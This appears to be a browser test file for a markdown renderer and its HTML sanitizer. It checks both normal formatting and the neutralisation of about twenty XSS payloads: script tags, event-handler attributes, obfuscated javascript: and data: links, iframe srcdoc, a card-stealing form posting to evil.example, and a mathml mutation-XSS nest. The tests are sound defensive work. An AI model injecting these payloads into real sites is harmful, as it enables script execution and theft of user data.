import { expect } from '@esm-bundle/chai';
import { sanitizeMarkdownHtml } from './markdown-sanitizer.js';
import { renderMarkdown } from './safe-markdown.js';

declare global {
  interface Window {
    x?: unknown;
  }
}

/** Puts rendered markdown into the live document, where scripts and handlers would run if anything got through. */
function mount(fragment: DocumentFragment): HTMLElement {
  const container = document.createElement('div');
  container.append(fragment);
  document.body.append(container);
  return container;
}

/**
 * The markup of the first match, or null. Assertions compare strings, never DOM nodes: a failed assertion carrying
 * a node as `actual` makes the test runner hang while it serialises the node instead of reporting the failure.
 */
const markupOf = (container: HTMLElement, selector: string) => container.querySelector(selector)?.outerHTML ?? null;

/** Long enough for error events of broken images, iframe loads and svg onload to have fired. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 100));

function expectInert(container: HTMLElement) {
  expect(markupOf(container, 'script, iframe, frame, object, embed, svg, math, form, input, button, style, img, link, meta, base'), 'active element').to.equal(
    null,
  );
  for (const element of container.querySelectorAll('*')) {
    for (const { name } of element.attributes) {
      expect(name, `attribute of <${element.localName}>`).not.to.match(/^on/i);
      expect(name, `attribute of <${element.localName}>`).not.to.be.oneOf(['style', 'src', 'action', 'formaction', 'srcdoc']);
    }
  }
  for (const link of container.querySelectorAll('[href]')) {
    expect(link.getAttribute('href')).to.match(/^(https?|mailto|tel):/i);
  }
}

afterEach(() => {
  document.body.replaceChildren();
  delete window.x;
});

describe('renderMarkdown', () => {
  it('renders the markdown an author writes: bold, italic, lists, links, code, line breaks', () => {
    const container = mount(
      renderMarkdown(
        [
          '**Your order** has _shipped_.',
          'It arrives on Monday.',
          '',
          '- one',
          '- two',
          '',
          '1. first',
          '',
          'Track it [here](https://example.com/track?id=1&x=2) or mail <help@example.com>.',
          '',
          '```js',
          'const ok = 1 < 2 && "<b>";',
          '```',
        ].join('\n'),
      ),
    );

    expect(container.querySelector('strong')?.textContent).to.equal('Your order');
    expect(container.querySelector('em')?.textContent).to.equal('shipped');
    expect(markupOf(container, 'p > br'), 'GFM line break').to.equal('<br>');
    expect([...container.querySelectorAll('ul > li')].map((li) => li.textContent)).to.deep.equal(['one', 'two']);
    expect(container.querySelectorAll('ol > li').length).to.equal(1);
    expect(container.querySelector('pre > code')?.textContent).to.equal('const ok = 1 < 2 && "<b>";\n');
    const link = container.querySelector<HTMLAnchorElement>('a[href^="https:"]');
    expect(link?.textContent).to.equal('here');
    expect(link?.getAttribute('href')).to.equal('https://example.com/track?id=1&x=2');
    expect(markupOf(container, 'a[href^="mailto:"]')).to.contain('href="mailto:help@example.com"');
    expectInert(container);
  });

  it('opens every link in a new tab without giving it the opener or the referrer', () => {
    const container = mount(renderMarkdown('[a](https://a.example) [b](http://b.example) [c](tel:+15551234) https://d.example'));
    const links = [...container.querySelectorAll('a')];
    expect(links.length).to.equal(4);
    for (const link of links) {
      expect(link.target).to.equal('_blank');
      expect(link.rel).to.equal('noopener noreferrer nofollow');
    }
  });

  it('keeps tables with their column alignment and ordered lists with their start', () => {
    const container = mount(renderMarkdown('| item | qty |\n|:-----|----:|\n| tea | 2 |\n\n3. third\n4. fourth'));
    expect(container.querySelector('table > thead > tr > th')?.textContent).to.equal('item');
    expect(container.querySelector('td:last-child')?.getAttribute('align')).to.equal('right');
    expect(container.querySelector('ol')?.getAttribute('start')).to.equal('3');
  });

  it('shows raw HTML as the text the author typed instead of running it', () => {
    const container = mount(renderMarkdown('Hello <b onclick="window.x=1">there</b>'));
    expect(markupOf(container, 'b')).to.equal(null);
    expect(container.textContent?.trim()).to.equal('Hello <b onclick="window.x=1">there</b>');
  });

  it('shows images as links to them, so no remote image (tracking pixel) loads on its own', () => {
    const container = mount(renderMarkdown('![a cat](https://img.example/cat.png) ![](https://t.example/p.gif)'));
    expect(markupOf(container, 'img')).to.equal(null);
    const links = [...container.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]);
    expect(links).to.deep.equal([
      ['a cat', 'https://img.example/cat.png'],
      ['https://t.example/p.gif', 'https://t.example/p.gif'],
    ]);
  });

  it('renders task lists without form controls', () => {
    const container = mount(renderMarkdown('- [ ] pack\n- [x] pay'));
    expect(markupOf(container, 'input')).to.equal(null);
    expect(container.innerText).to.contain('☐ pack').and.to.contain('☑ pay');
  });

  it('keeps the text of a link whose address is relative, but not the address', () => {
    const container = mount(renderMarkdown('[settings](/account) and [top](#top)'));
    expect(markupOf(container, '[href]')).to.equal(null);
    expect(container.innerText).to.equal('settings and top');
  });

  const dataPage = `data:text/html;base64,${btoa('<script>parent.x=1</script>')}`;
  const payloads: Record<string, string> = {
    'a script element': '<script>window.x=1</script>',
    'a script element on its own lines': '\n\n<script>\nwindow.x=1\n</script>\n\n',
    'an image with onerror': '<img src=x onerror="window.x=1">',
    'a markdown javascript: link': '[a](javascript:window.x=1)',
    'a markdown javascript: link in angle brackets': '[a](<javascript:window.x=1>)',
    'a markdown javascript: link with an encoded letter': '[a](&#x6A;avascript:window.x=1)',
    'a markdown javascript: link with a tab': '[a](java\tscript:window.x=1)',
    'a mixed-case javascript: anchor': '<a href="JaVaScRiPt:window.x=1">b</a>',
    'a reference-style javascript: link': '[a][r]\n\n[r]: javascript:window.x=1',
    'a javascript: image': '![a](javascript:window.x=1)',
    'an iframe': '<iframe src="javascript:parent.x=1"></iframe>',
    'an iframe with srcdoc': '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
    'an svg with onload': '<svg onload="window.x=1"><circle r="5"/></svg>',
    'a markdown data: link': `[a](${dataPage})`,
    'a data: anchor': `<a href="${dataPage}">b</a>`,
    'a style element': '<style>body { display: none } *{background:url(https://t.example/p.gif)}</style>',
    'a form': '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
    'a vbscript: link': '[a](vbscript:msgbox(1))',
    'an object': '<object data="javascript:window.x=1"></object>',
    'a details with ontoggle': '<details open ontoggle="window.x=1">d</details>',
  };

  for (const [name, payload] of Object.entries(payloads)) {
    it(`neutralises ${name} and keeps the author's text around it`, async () => {
      const container = mount(renderMarkdown(`Hello ${payload} world`));
      await settle();
      expect(window.x, 'the payload ran').to.equal(undefined);
      expectInert(container);
      expect(container.innerText)
        .to.match(/^Hello\b/)
        .and.to.match(/\bworld$/);
      expect(getComputedStyle(document.body).display).to.equal('block');
    });
  }
});

describe('sanitizeMarkdownHtml (the second layer, should HTML ever get past marked)', () => {
  it('strips every active element and attribute and keeps the text', async () => {
    const container = mount(
      sanitizeMarkdownHtml(
        [
          '<p>Hello <script>window.x=1</script><img src=x onerror="window.x=1">',
          '<svg onload="window.x=1"></svg><iframe src="javascript:parent.x=1"></iframe>',
          '<style>p{color:red}</style><form action="https://evil.example"><b>bold</b></form>',
          '<a href="JaVaScRiPt:window.x=1" onclick="window.x=1">b</a> <a href="  data:text/html,x">c</a>',
          '<math><mtext><table><mglyph><style><img src=x onerror="window.x=1"></style></mglyph></table></mtext></math>',
          '<strong style="color:red" class="x" id="y">world</strong></p>',
        ].join(''),
      ),
    );
    await settle();
    expect(window.x).to.equal(undefined);
    expectInert(container);
    expect(container.querySelector('a')?.hasAttribute('target'), 'a link without an address gets no target').to.equal(false);
    expect(markupOf(container, 'strong')).to.equal('<strong>world</strong>');
    expect(container.innerText).to.contain('Hello').and.to.contain('bold').and.to.contain('world');
  });
});
